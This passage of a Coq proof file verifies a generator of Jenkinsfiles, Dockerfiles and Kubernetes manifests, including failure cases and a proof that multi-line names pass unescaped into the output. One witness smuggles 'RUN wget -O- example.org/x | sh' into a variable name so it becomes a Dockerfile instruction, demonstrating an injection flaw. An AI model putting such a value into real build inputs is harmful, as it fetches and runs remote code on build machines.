  ∧ ∃ pipeline,
      pipeline_of
        (write_secret_yaml
           (bound_globals "generated/orders-api" (JInt 8080) (JInt 30080) orders_envs)
           "orders-api" ["DB_URL"; "API_KEY"]
           "generated/orders-api/k8s/orders-api-secret.yaml" old_state).2
        "generated/orders-api" = Some pipeline
      ∧ brace_balance pipeline = (-5)%Z.
Proof.
  assert (brace_free "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (brace_free (py_str (JInt 8080)) = true) as H1 by (vm_compute; reflexivity).
  assert (brace_free (py_str (JInt 30080)) = true) as H2 by (vm_compute; reflexivity).
  assert (forallb plain_binding orders_envs = true) as Hb by (vm_compute; reflexivity).
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (writable old_state (jenkinsfile_path "generated/orders-api")) as Hj
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hl|]. split; [exact H1|]. split; [exact H2|]. split; [exact Hb|].
  split; [exact Hc|]. split; [exact Hj|].
  destruct (pipeline_closes_more_blocks_than_it_opens "orders-api" (JInt 8080)
              (JInt 30080) orders_envs ["DB_URL"; "API_KEY"] _ _ old_state
              Hl H1 H2 Hb Hc Hj) as (pipeline & _ & Hread & Hbal & _).
  exists pipeline. split; [exact Hread|exact Hbal].
Defined.

(** X24. With the four names bound, an entry of [envs] that lacks
    a field stops [write_secret_yaml] and leaves the Jenkinsfile
    unfinished.  Without a [name], the call raises [KeyError('name')]
    while it formats the first text, and the file stays empty.  When all
    entries are named and the first entry without a [secret_id] comes after
    the complete entries [pre], the call raises [KeyError('secret_id')] in
    the first loop over the credentials: the file ends after the
    [environment] block, the opening of the build stage and the
    credentials of [pre]. *)
Theorem entry_without_a_field_leaves_a_partial_pipeline (app_name : string)
    (port node_port : jsval) (envs : list env) (var_names : list string)
    (output_path output_dir : string) (st : state) :
  writable st output_path →
  writable st (jenkinsfile_path output_dir) →
  let run := write_secret_yaml (bound_globals output_dir port node_port envs)
               app_name var_names output_path st in
  (Exists (λ e : env, e !! "name" = None) envs →
     run.1 = Raise (KeyError "name")
     ∧ pipeline_of run.2 output_dir = Some EmptyString)
  ∧ (∀ (pre post : list env) (e : env) (names : list string),
       envs = pre ++ e :: post →
       Template.env_names envs = Ok names →
       forallb env_complete pre = true →
       e !! "secret_id" = None →
       run.1 = Raise (KeyError "secret_id")
       ∧ pipeline_of run.2 output_dir
         = Some (Template.jenkins_environment app_name port node_port names
                 +:+ Text.join EmptyString
                       (map (λ e, Template.jenkins_credential (secret_id_of e) (name_of e))
                            pre))).
Proof.
  intros [_ Hc] [_ Hj] run.
  assert (∀ c m, Os.read_file
            {| cwd := cwd st;
               fs := <[Os.resolve (cwd st) (jenkinsfile_path output_dir) := File c]> m;
               calls := "write_secret_yaml" :: calls st |}
            (jenkinsfile_path output_dir) = Some c) as Hread.
  { intros c m. unfold Os.read_file. cbn [cwd fs].
    destruct Hj as (Hne & _). rewrite fs_get_stored by done.
    by rewrite lookup_insert_eq. }
  split.
  - intros Hex. unfold run, pipeline_of.
    rewrite (write_secret_yaml_unnamed _ _ _ _ _ _ _ Hc Hj _ Hex). cbn [fst snd].
    by rewrite Hread.
  - intros pre post e names -> Hnames Hpre He. unfold run, pipeline_of.
    rewrite (write_secret_yaml_no_secret_id _ _ _ _ _ _ _ Hc Hj _ _ _ _ Hnames Hpre He).
    cbn [fst snd]. by rewrite Hread.
Qed.

Lemma entry_without_a_field_leaves_a_partial_pipeline_witness :
  writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
  ∧ writable old_state (jenkinsfile_path "generated/orders-api")
  ∧ (write_secret_yaml
       (bound_globals "generated/orders-api" (JInt 8080) (JInt 30080)
          [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
            {[ "name" := "API_KEY" ]} ])
       "orders-api" ["DB_URL"; "API_KEY"]
       "generated/orders-api/k8s/orders-api-secret.yaml" old_state).1
    = Raise (KeyError "secret_id").
Proof.
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (writable old_state (jenkinsfile_path "generated/orders-api")) as Hj
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hc|]. split; [exact Hj|].
  destruct (entry_without_a_field_leaves_a_partial_pipeline "orders-api" (JInt 8080)
              (JInt 30080)
              [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
                {[ "name" := "API_KEY" ]} ]
              ["DB_URL"; "API_KEY"] _ _ old_state Hc Hj) as [_ H].
  destruct (H [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]} ] []
              {[ "name" := "API_KEY" ]} ["DB_URL"; "API_KEY"]) as [Hrun _].
  - reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - exact Hrun.
Defined.

(** X25. Under any bindings, a call of [write_secret_yaml] whose
    secret file cannot be opened stops there and changes no file: with a
    [FileNotFoundError] for [output_path] when its directory does not
    exist (as before the first request has created [k8s]), with a
    [NotADirectoryError] when a regular file stands in the place of that
    directory, and with an [IsADirectoryError] when [output_path] is a
    directory. *)
Theorem secret_file_that_cannot_be_opened_stops_the_call (g : globals)
    (app_name : string) (var_names : list string) (output_path : string)
    (st : state) :
  clean_path output_path = true →
  let run := write_secret_yaml g app_name var_names output_path st in
  let P := Os.resolve (cwd st) output_path in
  (way_clear st output_path →
   Os.fs_get (fs st) (Os.parent P) = None →
     run.1 = Raise (FileNotFoundError output_path) ∧ fs run.2 = fs st)
  ∧ (Os.is_file (fs st) (Os.parent P) = true →
     run.1 = Raise (NotADirectoryError output_path) ∧ fs run.2 = fs st)
  ∧ (Os.fs_get (fs st) P = Some Dir →
     Os.fs_get (fs st) (Os.parent P) = Some Dir →
     run.1 = Raise (IsADirectoryError output_path) ∧ fs run.2 = fs st).
Proof.
  intros _ run P.
  assert (∀ e, Os.open_w output_path (logged "write_secret_yaml" st)
               = (Raise e, logged "write_secret_yaml" st) →
               run.1 = Raise e ∧ fs run.2 = fs st) as Hstop.
  { intros e He. unfold run.
    by rewrite (write_secret_yaml_not_opened g _ _ _ _ e He). }
  split; [|split].
  - intros _ Hpar. apply Hstop. unfold Os.open_w. cbn [cwd fs logged]. fold P.
    destruct P as [|c r] eqn:E; [done|]. by rewrite Hpar.
  - intros Hpar. apply Hstop. unfold Os.open_w. cbn [cwd fs logged]. fold P.
    unfold Os.is_file in Hpar.
    destruct P as [|c r] eqn:E; [done|].
    by destruct (Os.fs_get (fs st) (Os.parent (c :: r))) as [[|?]|].
  - intros Hdir Hpar. apply Hstop. unfold Os.open_w. cbn [cwd fs logged]. fold P.
    destruct P as [|c r] eqn:E; [done|]. rewrite Hpar.
    cbn [Os.fs_get] in Hdir. by rewrite Hdir.
Qed.

Lemma secret_file_that_cannot_be_opened_stops_the_call_witness :
  clean_path "generated/orders-api/k8s/orders-api-secret.yaml" = true
  ∧ (write_secret_yaml module_globals "orders-api" ["DB_URL"; "API_KEY"]
       "generated/orders-api/k8s/orders-api-secret.yaml" fresh_state).1
    = Raise (FileNotFoundError "generated/orders-api/k8s/orders-api-secret.yaml").
Proof.
  assert (clean_path "generated/orders-api/k8s/orders-api-secret.yaml" = true) as Hp
    by (vm_compute; reflexivity).
  split; [exact Hp|].
  destruct (secret_file_that_cannot_be_opened_stops_the_call module_globals
              "orders-api" ["DB_URL"; "API_KEY"] _ fresh_state Hp) as [H _].
  apply H.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

(** X26. Two applications can be generated one after the other:
    for two different one-component names with free destinations, the
    request for the second succeeds after the request for the first, and
    afterwards the four files of each bundle can be read with the texts
    of its own descriptor. *)
Theorem bundles_of_two_applications_stand_side_by_side (a b : string)
    (port_a node_port_a port_b node_port_b : jsval)
    (envs_a envs_b : list env) (names_a names_b : list string) (st : state) :
  path_component a = true →
  path_component b = true →
  a ≠ b →
  Template.env_names envs_a = Ok names_a →
  Template.env_names envs_b = Ok names_b →
  destination_free st a →
  destination_free st b →
  let st1 := (generate (request a port_a node_port_a envs_a) st).2 in
  let run := generate (request b port_b node_port_b envs_b) st1 in
  run.1 = Ok (Success ("Fichiers générés dans " +:+ destination b))
  ∧ Forall (λ w, Os.read_file run.2 w.1 = Some w.2)
      (artifacts a port_a node_port_a envs_a (destination a))
  ∧ Forall (λ w, Os.read_file run.2 w.1 = Some w.2)
      (artifacts b port_b node_port_b envs_b (destination b)).
Proof.
  intros Ha Hb Hab Hnames_a Hnames_b Hfree_a Hfree_b st1 run.
  exact (two_bundles a b port_a node_port_a port_b node_port_b envs_a envs_b
           names_a names_b st Ha Hb Hab Hnames_a Hnames_b Hfree_a Hfree_b).
Qed.

Lemma bundles_of_two_applications_stand_side_by_side_witness :
  path_component "orders-api" = true
  ∧ path_component "billing" = true
  ∧ "orders-api" ≠ "billing"
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ Template.env_names [] = Ok []
  ∧ destination_free old_state "orders-api"
  ∧ destination_free old_state "billing"
  ∧ Forall (λ w, Os.read_file
                   (generate (request "billing" (JInt 9090) (JInt 30090) [])
                      (generate orders_request old_state).2).2 w.1 = Some w.2)
      (artifacts "orders-api" (JInt 8080) (JInt 30080) orders_envs
         (destination "orders-api")).
Proof.
  assert (path_component "orders-api" = true) as Ha by (vm_compute; reflexivity).
  assert (path_component "billing" = true) as Hb by (vm_compute; reflexivity).
  assert ("orders-api" ≠ "billing") as Hab
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hna
    by (vm_compute; reflexivity).
  assert (Template.env_names [] = Ok []) as Hnb by (vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hfa
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (destination_free old_state "billing") as Hfb
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Ha|]. split; [exact Hb|]. split; [exact Hab|]. split; [exact Hna|].
  split; [exact Hnb|]. split; [exact Hfa|]. split; [exact Hfb|].
  destruct (bundles_of_two_applications_stand_side_by_side "orders-api" "billing"
              (JInt 8080) (JInt 30080) (JInt 9090) (JInt 30090) orders_envs [] _ _
              old_state Ha Hb Hab Hna Hnb Hfa Hfb) as (_ & H & _).
  exact H.
Defined.

(** X27. Names are written into the files as they come.  A
    request with a one-component name and named variables on a free
    destination succeeds also when a name has more than one line, and then
    every line of a variable name after its first is a line of the build
    file, and every line of the application name after its first is a
    line of the workload manifest: a name with a line break adds
    instructions, or fields, of its own. *)
Theorem further_lines_of_a_name_become_lines_of_the_files (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component app_name = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  ∃ build_file dep,
    run.1 = Ok (Success ("Fichiers générés dans " +:+ dest))
    ∧ Os.read_file run.2 (dockerfile_path dest) = Some build_file
    ∧ Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ (∀ n l, n ∈ names → l ∈ tl (Text.lines n) → l ∈ Text.lines build_file)
    ∧ (∀ l, l ∈ tl (Text.lines app_name) → l ∈ Text.lines dep).
Proof.
  intros Hname Hnames Hfree dest run.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (Hrun & Hdf & Hdep & _).
  exists (Template.dockerfile names), (Template.deployment app_name port).
  split; [exact Hrun|]. split; [exact Hdf|]. split; [exact Hdep|]. split.
  - intros n l Hn Hl. by apply (dockerfile_embeds names n).
  - intros l Hl. by apply deployment_embeds.
Qed.

Lemma further_lines_of_a_name_become_lines_of_the_files_witness :
  path_component "orders-api" = true
  ∧ Template.env_names two_line_envs
    = Ok ["DB_URL"; "API_KEY" +:+ String Text.nl "RUN wget -O- example.org/x | sh"]
  ∧ destination_free old_state "orders-api"
  ∧ ∃ build_file,
      Os.read_file
        (generate (request "orders-api" (JInt 8080) (JInt 30080) two_line_envs)
           old_state).2
        (dockerfile_path (destination "orders-api")) = Some build_file
      ∧ "RUN wget -O- example.org/x | sh" ∈ Text.lines build_file.
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names two_line_envs
          = Ok ["DB_URL"; "API_KEY" +:+ String Text.nl "RUN wget -O- example.org/x | sh"])
    as Hn by (vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hn|]. split; [exact Hf|].
  destruct (further_lines_of_a_name_become_lines_of_the_files "orders-api"
              (JInt 8080) (JInt 30080) two_line_envs _ old_state Hp Hn Hf)
    as (build_file & dep & _ & Hread & _ & Hlines & _).
  exists build_file. split; [exact Hread|].
  apply (Hlines ("API_KEY" +:+ String Text.nl "RUN wget -O- example.org/x | sh")).
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
Defined.
